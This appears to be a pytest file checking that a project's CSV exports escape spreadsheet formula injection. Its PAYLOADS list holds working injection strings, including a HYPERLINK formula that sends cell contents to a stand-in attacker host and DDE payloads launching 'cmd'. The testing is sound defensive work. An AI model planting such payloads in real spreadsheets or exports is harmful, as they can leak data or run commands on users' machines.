"""Every CSV export escapes what a spreadsheet would run as a formula: ``openimr stats --format csv``,
``openimr export --format csv``, ``/corpus/stats.csv``, the audit CSV and the roster, all written by
:mod:`openimr.services.csvout`. A letter's reviewer specialties are the attacker's text here."""

from __future__ import annotations

import csv
import hashlib
import io
import shutil
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from openimr.cli import app
from openimr.core.models import Letter
from openimr.services.corpus.index import sync_index
from openimr.services.csvout import CsvWriter, cell
from openimr.store.db import Store, make_engine
from openimr.store.ingest import store_letter
from openimr.web.app import create_app
from test_web_api import examples_letter
from test_web_stats import sign_in

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "-12",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def _formulas(text: str) -> list[str]:
    """The cells of CSV *text* a spreadsheet would read as a formula (our exports hold no negative number)."""
    return [c for row in csv.reader(io.StringIO(text)) for c in row if cell(c) != c]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_quoted(payload: str) -> None:
    assert cell(payload) == f"'{payload}"


@pytest.mark.parametrize("value", [-7, -0.25, 2026, "12", "Pain Medicine", "a=b", " =x", ""])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert cell(value) == value


def test_the_writer_quotes_every_cell_and_keeps_separators_inside_cells() -> None:
    out = io.StringIO()
    writer = CsvWriter(out, ["a", "b"])
    writer.rows([["=1+1", "x,=2"], [-3, "-3"], [None, 1.5]])
    writer.records([{"b": "@x"}])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["a", "b"],
        ["'=1+1", "x,=2"],
        ["-3", "'-3"],
        ["", "1.5"],
        ["", "'@x"],
    ]


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory, gold_path: Path) -> Store:
    """Three gold letters, their reviewers' specialties replaced by formulas."""
    lines = gold_path.read_text(encoding="utf-8").splitlines()[:3]
    letters = [Letter.model_validate_json(line) for line in lines]
    with Store.open(f"sqlite:///{tmp_path_factory.mktemp('csv') / 'store.db'}") as store:
        with store.engine.begin() as conn:
            for n, letter in enumerate(letters):
                reviewer = letter.reviewer.model_copy(update={"specialties": [PAYLOADS[n], PAYLOADS[n + 1]]})
                hostile = letter.model_copy(update={"reviewer": reviewer})
                store_letter(conn, hostile, hashlib.sha256(str(n).encode()).hexdigest())
        sync_index(store.engine)
        yield store


def test_stats_csv_by_specialty_escapes_formulas(hostile_store: Store) -> None:
    args = ["stats", "--by", "specialty", "--format", "csv", "--db", hostile_store.url]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    groups = [row[0] for row in csv.reader(io.StringIO(result.stdout))][1:]
    assert {f"'{p}" for p in PAYLOADS[:4]} <= set(groups)
    assert _formulas(result.stdout) == []


def test_export_csv_escapes_the_specialties(hostile_store: Store, tmp_path: Path) -> None:
    path = tmp_path / "corpus.csv"
    args = ["export", "-o", str(path), "--format", "csv", "--db", hostile_store.url]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    assert rows and {r["specialties"].split("; ")[0] for r in rows} >= {f"'{PAYLOADS[0]}"}
    assert _formulas(path.read_text(encoding="utf-8")) == []


def test_the_web_statistics_csv_escapes_formulas(demo_db: Path, tmp_path: Path) -> None:
    path = tmp_path / "web.db"
    shutil.copy(demo_db, path)
    engine = make_engine(f"sqlite:///{path}")
    letter = examples_letter()
    reviewer = letter.reviewer.model_copy(update={"specialties": PAYLOADS[:2]})
    with engine.begin() as conn:
        store_letter(conn, letter.model_copy(update={"reviewer": reviewer}), "a")
    engine.dispose()
    web = create_app(f"sqlite:///{path}")
    with TestClient(web) as client:
        sign_in(client, "analyst")
        answer = client.get("/corpus/stats.csv", params={"by": "specialty"})
    web.state.store.close()
    assert answer.status_code == 200
    groups = [row[0] for row in csv.reader(io.StringIO(answer.text))][1:]
    assert f"'{PAYLOADS[0]}" in groups and f"'{PAYLOADS[1]}" in groups
    assert _formulas(answer.text) == []
